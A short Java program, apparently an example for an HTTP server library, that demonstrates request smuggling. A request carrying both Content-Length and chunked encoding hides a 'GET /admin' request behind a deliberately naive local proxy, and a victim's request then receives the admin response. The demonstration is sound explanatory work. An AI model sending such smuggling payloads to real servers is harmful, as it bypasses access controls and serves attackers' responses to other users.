import java.io.IOException;
import lkg.http.HttpResponse;
import lkg.server.Handler;
import lkg.server.LkgServer;

/** Two users share one connection of a proxy that goes by Content-Length, and one of them sends chunks as well. */
public final class HiddenRequest {

    private static final String HIDDEN = "GET /admin HTTP/1.1\r\nX: ";
    private static final String BODY = "0\r\n\r\n" + HIDDEN;
    private static final String OF_THE_ATTACKER = "POST /search HTTP/1.1\r\nHost: a\r\n" + "Content-Length: "
            + BODY.length() + "\r\nTransfer-Encoding: chunked\r\n\r\n" + BODY;
    private static final String OF_THE_VICTIM = "GET /news HTTP/1.1\r\nHost: a\r\n\r\n";

    public static void main(String[] args) throws Exception {
        Handler echo = Handler.onLoop(request -> HttpResponse.text(200, "this is " + request.path()));
        try (LkgServer server = LkgServer.builder().port(0).handler(echo).start();
                Proxy proxy = new Proxy(server.port())) {
            System.out.println("the attacker asked for /search and got: " + proxy.forward(OF_THE_ATTACKER));
            System.out.println("the victim asked for /news and got: " + proxy.forward(OF_THE_VICTIM));
        }
    }

    /** Takes the end of each request from Content-Length, forwards it, and gives its client the next response. */
    private static final class Proxy implements AutoCloseable {
        private final int port;
        private RawClient server;

        Proxy(int port) throws IOException {
            this.port = port;
            server = new RawClient(port);
        }

        String forward(String request) throws IOException {
            String response = server.send(request).response();
            if (response.contains("Connection: close")) {
                server.close();
                server = new RawClient(port);
            }
            String[] headAndBody = response.split("\r\n\r\n");
            return headAndBody[0].lines().findFirst().orElseThrow() + ", " + headAndBody[1].strip();
        }

        @Override
        public void close() throws IOException {
            server.close();
        }
    }
}
